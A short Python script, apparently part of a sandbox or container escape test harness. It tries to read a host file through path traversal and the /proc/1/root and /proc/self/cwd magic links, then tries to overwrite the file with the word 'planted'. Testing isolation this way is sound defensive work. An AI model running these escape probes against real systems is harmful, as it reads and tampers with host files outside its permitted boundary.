"""Read and write a file of the host: by its path, upwards, through magic links of /proc."""

from pathlib import Path

from attack import PARAMETERS, attempt

path = PARAMETERS["path"]
for name in (path, "../" * 20 + path, f"/proc/1/root{path}", f"/proc/self/cwd/{'../' * 20}{path}"):
    attempt(f"read {name}", lambda name=name: Path(name).read_text())
attempt("overwrite", lambda: Path(path).write_text("planted"))
